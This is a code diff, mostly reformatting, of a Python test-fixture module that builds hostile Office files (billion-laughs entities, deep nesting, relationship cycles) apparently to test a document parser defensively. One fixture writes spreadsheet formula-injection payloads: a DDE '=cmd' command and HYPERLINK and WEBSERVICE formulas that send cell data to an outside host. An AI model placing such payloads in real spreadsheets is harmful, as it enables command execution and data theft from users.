@@ -13,7 +13,7 @@ from pptx.chart.data import CategoryChartData
 from pptx.enum.chart import XL_CHART_TYPE
 from pptx.util import Inches
 
-from tests.hostile.packing import DEFLATED, ENCRYPTED, LZMA, Entry, archive, entry, flooded, parts, repacked
+from tests.hostile.packing import ENCRYPTED, LZMA, Entry, archive, entry, flooded, parts, repacked
 
 W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
 R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
@@ -26,7 +26,9 @@ LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>{}]>".format(
 
 
 def types(kind: str, main: str) -> bytes:
-    override = f'<Override PartName="/{main}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/>'
+    override = (
+        f'<Override PartName="/{main}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/>'
+    )
     default = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
     plain = '<Default Extension="xml" ContentType="application/xml"/>'
     return f'{DECLARED}<Types xmlns="{PACKAGE}/content-types">{default}{plain}{override}</Types>'.encode()
@@ -250,8 +252,15 @@ def xlsx_one_word(size: int = 1_000_000, times: int = 20_000) -> bytes:
 
 def xlsx_formulas(outside: str) -> bytes:
     """Formulas that would run a program or tell somebody something."""
-    told = ("=cmd|' /C calc'!A0", f"=HYPERLINK(&quot;{outside}/?leak=&quot;&amp;A1)", f"=WEBSERVICE(&quot;{outside}/web&quot;)")
-    rows = [row(n, cell(f"A{n}", text), f"<c r='B{n}' t='str'><f>{text[1:]}</f><v>{text}</v></c>") for n, text in enumerate(told, 1)]
+    told = (
+        "=cmd|' /C calc'!A0",
+        f"=HYPERLINK(&quot;{outside}/?leak=&quot;&amp;A1)",
+        f"=WEBSERVICE(&quot;{outside}/web&quot;)",
+    )
+    rows = [
+        row(n, cell(f"A{n}", text), f"<c r='B{n}' t='str'><f>{text[1:]}</f><v>{text}</v></c>")
+        for n, text in enumerate(told, 1)
+    ]
     return book(sheet("".join(rows)))
 
 
@@ -292,8 +301,7 @@ def pptx_cycle(*kinds: str) -> bytes:
     for number, other in ((1, 2), (2, 1)):
         name = f"ppt/slides/_rels/slide{number}.xml.rels"
         more = "".join(
-            f'<Relationship Id="rId9{n}" Type="{R}/{kind}" Target="slide{other}.xml"/>'
-            for n, kind in enumerate(kinds)
+            f'<Relationship Id="rId9{n}" Type="{R}/{kind}" Target="slide{other}.xml"/>' for n, kind in enumerate(kinds)
         )
         files[name] = files[name].replace(b"</Relationships>", more.encode() + b"</Relationships>")
     return repacked(files)
@@ -310,9 +318,7 @@ def pptx_chart(count: int = 2_000_000_000) -> bytes:
 def pptx_groups(depth: int = 3_000) -> bytes:
     """Groups in groups."""
     files = deck()
-    group = (
-        '<p:grpSp><p:nvGrpSpPr><p:cNvPr id="9" name="g"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
-    )
+    group = '<p:grpSp><p:nvGrpSpPr><p:cNvPr id="9" name="g"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>'
     name = "ppt/slides/slide1.xml"
     files[name] = files[name].replace(b"</p:spTree>", (group * depth + "</p:grpSp>" * depth).encode() + b"</p:spTree>")
     return repacked(files)
@@ -370,4 +376,3 @@ def odt_reaching_out(outside: str) -> bytes:
 
 def zipped() -> bytes:
     return archive([entry("notes.txt", b"Only an archive.")])
-
